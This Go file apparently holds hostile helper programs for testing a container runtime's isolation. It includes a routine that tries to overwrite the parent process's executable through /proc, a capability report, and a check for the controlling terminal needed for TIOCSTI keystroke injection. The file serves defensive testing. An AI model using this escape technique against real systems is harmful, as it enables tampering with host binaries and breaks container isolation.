package attacks

import (
	"fmt"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// hostileMain is the program that attacks from inside a container.
func hostileMain(args []string) int {
	attacks := map[string]func([]string) error{"overwrite": overwriteParent, "watch": watch, "who": who, "terminal": terminal}
	attack := attacks[args[0]]
	if attack == nil {
		fmt.Println("unknown attack", args)
		return 2
	}
	if err := attack(args[1:]); err != nil {
		fmt.Println("attack failed:", err)
		return 1
	}
	return 0
}

// overwriteParent writes to the file that its parent is executed from, as soon
// as nothing executes it any more.
func overwriteParent(args []string) error {
	exe, err := os.Open(fmt.Sprintf("/proc/%d/exe", os.Getppid()))
	if err != nil {
		return err
	}
	path := fmt.Sprintf("/proc/self/fd/%d", exe.Fd())
	var last error
	for range 300 {
		var f *os.File
		if f, last = os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0); last == nil {
			_, last = f.WriteString("overwritten")
			return last
		}
		time.Sleep(10 * time.Millisecond)
	}
	return last
}

// who prints what the program has become.
func who([]string) error {
	text, err := os.ReadFile("/proc/self/status")
	_, set, _ := strings.Cut(string(text), "CapEff:\t")
	set, _, _ = strings.Cut(set, "\n")
	fmt.Printf("euid %d %s\n", os.Geteuid(), set)
	return err
}

// terminal says whether the terminal that it was given controls it, which is
// what it takes to put characters into it with TIOCSTI (ioctl_tty(2)).
func terminal([]string) error {
	if _, err := unix.IoctlGetInt(0, unix.TIOCGPGRP); err != nil {
		return err
	}
	fmt.Println("it is the controlling terminal")
	return nil
}
